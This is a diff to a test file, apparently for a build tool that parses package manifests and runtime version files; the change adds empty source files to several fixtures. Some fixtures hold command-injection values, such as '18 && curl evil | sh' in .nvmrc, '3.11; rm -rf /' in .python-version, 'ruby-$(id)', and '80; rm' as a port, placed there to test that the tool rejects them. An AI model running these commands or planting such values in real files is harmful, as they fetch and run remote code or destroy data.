@@ -27,11 +27,11 @@ case("package-json-not-object", "Detect::Manifest", "package.json", {"package.js
 case("package-json-empty", "Detect::Manifest", "package.json", {"package.json": ""})
 case("package-json-binary", "Detect::Source::NotUtf8", "package.json", {"package.json": b"\x89PNG\r\n\x1a\n\xff\xfe\x00"})
 case("package-json-utf16", "Detect::Source::NotUtf8", "package.json", {"package.json": "{}".encode("utf-16")})
-case("package-json-engines-number", "ok", "\u0000never\u0000", {"package.json": '{"engines": {"node": 18}}'})
-case("package-json-scripts-array", "ok", "\u0000never\u0000", {"package.json": '{"scripts": ["build"]}'})
-case("package-json-package-manager-bad", "ok", "\u0000never\u0000", {"package.json": '{"packageManager": 7}'})
+case("package-json-engines-number", "ok", "\u0000never\u0000", {"package.json": '{"engines": {"node": 18}}', "index.js": ""})
+case("package-json-scripts-array", "ok", "\u0000never\u0000", {"package.json": '{"scripts": ["build"]}', "index.js": ""})
+case("package-json-package-manager-bad", "ok", "\u0000never\u0000", {"package.json": '{"packageManager": 7}', "index.js": ""})
 case("pyproject-syntax", "Detect::Manifest", "pyproject.toml", {"pyproject.toml": "[project\nname = 'x'\n"})
-case("pyproject-requires-python-number", "ok", "\u0000never\u0000", {"pyproject.toml": "[project]\nrequires-python = 3\n"})
+case("pyproject-requires-python-number", "ok", "\u0000never\u0000", {"pyproject.toml": "[project]\nrequires-python = 3\n", "app.py": ""})
 case("pyproject-binary", "Detect::Source::NotUtf8", "pyproject.toml", {"pyproject.toml": b"\xff\xfe[project]"})
 case("cargo-toml-syntax", "Plan::Manifest", "Cargo.toml", {"Cargo.toml": "[package\nname = 'x'\n"})
 case("cargo-toml-binary", "Plan::Source::NotUtf8", "Cargo.toml", {"Cargo.toml": b"\x00\xff\xfe"})
@@ -61,10 +61,10 @@ case("pom-xml-binary", "Detect::Source::NotUtf8", "pom.xml", {"pom.xml": b"<proj
 case("deno-json-syntax", "Plan::Manifest", "deno.json", {"deno.json": "{tasks"})
 case("gemfile-binary", "Detect::Source::NotUtf8", "Gemfile", {"Gemfile": b"source \xff\n"})
 # --- version files --------------------------------------------------------------------------
-case("nvmrc-injection", "ok", "curl evil", {"package.json": "{}", ".nvmrc": "18 && curl evil | sh\n"})
-case("python-version-garbage", "ok", "rm -rf", {"requirements.txt": "", ".python-version": "3.11; rm -rf /\n"})
+case("nvmrc-injection", "ok", "curl evil", {"package.json": "{}", "index.js": "", ".nvmrc": "18 && curl evil | sh\n"})
+case("python-version-garbage", "ok", "rm -rf", {"requirements.txt": "", "app.py": "", ".python-version": "3.11; rm -rf /\n"})
 case("ruby-version-garbage", "ok", "$(id)", {"Gemfile": "source 'https://rubygems.org'\n", "config.ru": "run ->(e) { [200, {}, ['ok']] }\n", ".ruby-version": "ruby-$(id)\n"})
-case("runtime-txt-garbage", "ok", "FROM evil", {"requirements.txt": "", "runtime.txt": "python-3.11 FROM evil\n"})
+case("runtime-txt-garbage", "ok", "FROM evil", {"requirements.txt": "", "app.py": "", "runtime.txt": "python-3.11 FROM evil\n"})
 case("rust-toolchain-garbage", "ok", "stable\"", {"Cargo.toml": "[package]\nname='x'\nversion='0.1.0'\n", "src/main.rs": "fn main() {}\n", "rust-toolchain": "stable\"\n"})
 case("go-version-binary", "Detect::Source::NotUtf8", ".go-version", {"go.mod": "module x\n\ngo 1.22\n", ".go-version": b"\xff1.22"})
 # --- directories where files are expected ----------------------------------------------------
@@ -114,7 +114,7 @@ case("arch-unknown", "Settings::InvalidChoice", "ARCH", {"requirements.txt": ""}
 case("port-not-number", "Settings::InvalidChoice", "PORT", {"requirements.txt": ""}, {"PORT": "80; rm"})
 case("custom-data-invalid", "Settings::InvalidJson", "CUSTOM_DATA", {"requirements.txt": ""}, {"CUSTOM_DATA": "{nope"})
 case("use-dhi-not-bool", "Settings::InvalidBool", "USE_DHI", {"requirements.txt": ""}, {"USE_DHI": "maybe"})
-case("node-version-injection", "ok", " AS x", {"package.json": "{}"}, {"NODE_VERSION": "18 AS x"})
+case("node-version-injection", "ok", " AS x", {"package.json": "{}", "index.js": ""}, {"NODE_VERSION": "18 AS x"})
 case("buildpacks-unknown", "Detect::UnknownBuildpack", "BUILDPACKS", {"requirements.txt": ""}, {"BUILDPACKS": "heroku/cobol"})
 
 # --- hostile repositories and what they could reach (issue 12, docs/security.md) -----------
